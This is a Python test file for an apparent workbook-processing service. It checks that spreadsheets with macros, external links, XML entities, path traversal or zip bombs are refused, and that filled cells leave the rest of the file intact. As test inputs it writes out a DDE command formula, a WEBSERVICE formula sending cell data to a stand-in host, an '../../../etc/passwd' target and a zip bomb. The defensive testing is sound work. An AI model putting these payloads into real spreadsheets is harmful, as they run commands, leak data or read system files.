"""A superior's workbook is hostile until it is judged, and filled without a touch on anything else."""

import io
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal

import openpyxl
import pytest

from api_kit.errors import SpreadsheetRefused
from api_kit.workbooks import SheetFiles
from tests.poverty_alleviation.templates import LIST, SUMS, changed, parts_of, template

FILES = SheetFiles()
BOOK, FIRST = "xl/workbook.xml", "xl/worksheets/sheet1.xml"
Parts = dict[str, bytes]


def replacing(name: str, old: bytes, new: bytes) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)

    return change


def formula(text: str) -> Callable[[Parts], None]:
    return replacing(FIRST, b"<f>SUM(B3:B4)</f>", f"<f>{text}</f>".encode())


def adding(name: str, content: bytes = b"<a/>") -> Callable[[Parts], None]:
    return lambda parts: parts.update({name: content})


def moved(parts: Parts) -> None:
    """A sheet in a folder where nobody looks for formulas."""
    parts["sheets/sheet1.xml"] = parts.pop(FIRST)
    name = "xl/_rels/workbook.xml.rels"
    parts[name] = parts[name].replace(b"/xl/worksheets/sheet1.xml", b"/sheets/sheet1.xml")


EXTERNAL = (
    b'<Relationships xmlns="x"><Relationship Id="r" Type="hyperlink" Target="https://a.invalid" TargetMode="External"/>'
    b"</Relationships>"
)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (adding("xl/vbaProject.bin"), "macros"),
        (adding("xl/macrosheets/sheet1.xml"), "macros"),
        (replacing("[Content_Types].xml", b"sheet.main", b"sheet.macroEnabled.main"), "macros"),
        (adding("xl/externalLinks/externalLink1.xml"), "linked"),
        (adding("xl/worksheets/_rels/sheet1.xml.rels", EXTERNAL), "linked"),
        (adding("xl/connections.xml"), "linked"),
        (adding("xl/queryTables/queryTable1.xml"), "linked"),
        (formula("[1]Sheet1!A1"), "linked"),
        (formula("cmd|'/c calc'!A0"), "linked"),
        (formula("WEBSERVICE(&quot;https://a.invalid&quot;&amp;A1)"), "linked"),
        (formula("_xlfn.IMAGE(A1)"), "linked"),
        (formula("hyperlink (A1)"), "linked"),
        (replacing(BOOK, b"</sheets>", b"</sheets><definedNames><definedName name='a'>[2]x!A1</definedName>"
                   b"</definedNames>"), "linked"),
        (adding("xl/a.xml", b"<a>" + b" " * 40_000_000 + b"</a>"), "unfolds_too_far"),
        (replacing(FIRST, b"<worksheet", b'<!DOCTYPE a [<!ENTITY b "c">]><worksheet'), "xml_entities"),
        (replacing(FIRST, b'<c r="B3"', b"<c"), "no_references"),
        (replacing(FIRST, b'<c r="B3"', b'<c r="B4"'), "no_references"),
        (lambda parts: parts.update({FIRST: parts[FIRST].decode().encode("utf-16")}), "encoding"),
        (lambda parts: parts.pop("xl/_rels/workbook.xml.rels"), "unreadable"),
        (replacing(BOOK, b"sheetId", b"sheetIe"), ""),
        (replacing("xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"worksheets/sheet9.xml"), "unreadable"),
        (replacing("xl/_rels/workbook.xml.rels", b"/xl/worksheets/sheet1.xml", b"../../../etc/passwd"), "unreadable"),
        (replacing("xl/_rels/workbook.xml.rels", b"/worksheet\"", b"/chartsheet\""), "unreadable"),
        (moved, "unreadable"),
        (replacing("_rels/.rels", b"</Relationships>", b'<Relationship Id="r9" Type="x/relationships/officeDocument"'
                   b' Target="xl/other.xml"/></Relationships>'), "unreadable"),
        (replacing("_rels/.rels", b"relationships/officeDocument", b"relationships/other"), "unreadable"),
    ],
)  # fmt: skip
async def test_what_runs_fetches_or_cannot_be_filled_is_refused(change: Callable[[Parts], None], reason: str) -> None:
    raw = changed(template(), change)
    if not reason:
        assert await FILES.sheet_names(raw) == [SUMS, LIST]
        return
    with pytest.raises(SpreadsheetRefused) as refused:
        await FILES.sheet_names(raw)
    assert refused.value.facts["reason"] == reason


async def test_no_workbook_is_refused() -> None:
    for raw in (b"", b"a,b\n", b"PK\x03\x04 and no archive", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old one"):
        with pytest.raises(SpreadsheetRefused):
            await FILES.sheet_names(raw)


async def test_only_the_cells_change_and_everything_else_stays_byte_for_byte() -> None:
    raw = template()
    cells: dict[str, dict[str, str | int | Decimal]] = {
        SUMS: {"B3": Decimal("1.2346"), "B4": "—", "C3": 7},
        LIST: {"A3": 1, "B3": "=1+1", "C3": Decimal("872.50")},
    }
    made = await FILES.filled(raw, cells, "示例水印")
    before, after = parts_of(raw), parts_of(made)
    assert list(before) == list(after)
    assert {name for name in before if before[name] != after[name]} == {FIRST, "xl/worksheets/sheet2.xml"}
    assert _without(before[FIRST]) == _without(after[FIRST]), "the rest of the sheet stays too"
    book = openpyxl.load_workbook(io.BytesIO(made))
    sums, listed = book[SUMS], book[LIST]
    assert (sums["B3"].value, sums["B4"].value, sums["C3"].value) == (1.2346, "—", 7)
    assert (sums["B5"].value, listed["C60"].value) == ("=SUM(B3:B4)", "=SUM(C3:C59)")
    assert (sums["B3"].number_format, sums["B3"].fill.fgColor.rgb) == ("0.0000", "00FFFF00")
    assert (sums["A1"].font.b, str(sums.merged_cells)) == (True, "A1:C1")
    assert (listed["B3"].value, listed["B3"].data_type) == ("'=1+1", "s"), "no program runs it"
    assert (sums["A7"].value, listed["A62"].value) == ("示例水印", "示例水印")
    assert after[FIRST].index(b'r="B3"') < after[FIRST].index(b'r="C3"') < after[FIRST].index(b'r="4"')


def _without(sheet: bytes) -> bytes:
    """A sheet without the cells that the test fills, and without the row of the notice."""
    return re.sub(rb'<row r="7">.*?</row>|<c r="(?:B3|B4|C3)"(?:[^>]*/>|.*?</c>)', b"", sheet)


async def test_cells_that_stand_where_none_stood_come_in_their_order() -> None:
    book = openpyxl.Workbook()
    book.active["B2"], book.active["D2"], book.active["B9"] = 1, 2, 3
    file = io.BytesIO()
    book.save(file)
    cells = {"Sheet": {"A2": 4, "C2": 5, "AA2": 6, "A1": 7, "C5": 8, "B5": 9, "A12": 10}}
    made = openpyxl.load_workbook(io.BytesIO(await FILES.filled(file.getvalue(), cells, "示例")))
    found = {cell.coordinate: cell.value for row in made["Sheet"].iter_rows() for cell in row if cell.value is not None}
    assert found == {**cells["Sheet"], "B2": 1, "D2": 2, "B9": 3, "A14": "示例"}
    assert await FILES.sheet_names(await FILES.filled(file.getvalue(), cells, "示例")) == ["Sheet"], "in order still"


@pytest.mark.parametrize(
    "data",
    [b"<sheetData/>", b'<sheetData><row r="2"/></sheetData>', b'<sheetData><row r="2"></row></sheetData>',
     b'<x:sheetData><x:row r="2"><x:c r="B2" t="s"/></x:row></x:sheetData>'],
)  # fmt: skip
async def test_empty_elements_and_prefixes_are_filled_too(data: bytes) -> None:
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    root, prefix = (b"x:worksheet", b"xmlns:x") if b"x:" in data else (b"worksheet", b"xmlns")
    sheet = b'<%s %s="%s">%s</%s>' % (root, prefix, space, data, root)
    book = openpyxl.Workbook()
    file = io.BytesIO()
    book.save(file)
    raw = changed(file.getvalue(), lambda parts: parts.update({FIRST: sheet}))
    made = openpyxl.load_workbook(io.BytesIO(await FILES.filled(raw, {"Sheet": {"B2": "示例<&", "A2": 1}}, "示例")))
    assert (made["Sheet"]["A2"].value, made["Sheet"]["B2"].value) == (1, "示例<&")


async def test_formulas_and_merged_cells_are_not_filled() -> None:
    array = replacing(FIRST, b"<f>SUM(B3:B4)</f>", b'<f t="array" ref="B5:C6">SUM(B3:B4)</f>')
    cells = {SUMS: ["A1", "B1", "C1", "B5", "C6", "B6", "D1"], LIST: ["C60", "C59"], "没有": ["A1"]}
    found = await FILES.unfillable(changed(template(), array), cells)
    assert set(found) == {
        (SUMS, "B1", "merged"), (SUMS, "C1", "merged"), (SUMS, "B5", "formula"), (SUMS, "C6", "formula"),
        (SUMS, "B6", "formula"), (LIST, "C60", "formula"), ("没有", "", "sheet"),
    }  # fmt: skip


@pytest.mark.parametrize("calculated", [b"", b"<calcPr calcId='1'/>", b'<calcPr fullCalcOnLoad="0"/>'])
async def test_every_program_computes_anew(calculated: bytes) -> None:
    def change(parts: Parts) -> None:
        book = parts[BOOK]
        begins = book.index(b"<calcPr")
        parts[BOOK] = book[:begins] + calculated + book[book.index(b"/>", begins) + 2 :]

    made = parts_of(await FILES.filled(changed(template(), change), {}, "示例"))[BOOK]
    assert made.count(b"<calcPr") == 1
    assert b'fullCalcOnLoad="1"' in made
    assert made.index(b"</sheets>") < made.index(b"<calcPr")


async def test_a_text_is_replaced_in_either_kind_of_file_and_found_again() -> None:
    rows: list[list[str | int | Decimal]] = [["甲", "\u2060" * 4], ["=1", "\u2060" * 4]]
    for file_format in ("xlsx", "csv"):
        made = await FILES.table(file_format, rows)
        marked = await FILES.replaced(made, "\u2060" * 4, "\u200b\u200c\u200b\u200c")
        text = await FILES.text_of(marked)
        assert "\u200b\u200c\u200b\u200c" in text
        assert "\u2060" not in text
        assert "'=1" in text, "no program runs it"


async def test_a_bomb_is_not_searched() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/a.xml", b"0" * 50_000_000)
    with pytest.raises(SpreadsheetRefused):
        await FILES.text_of(file.getvalue())
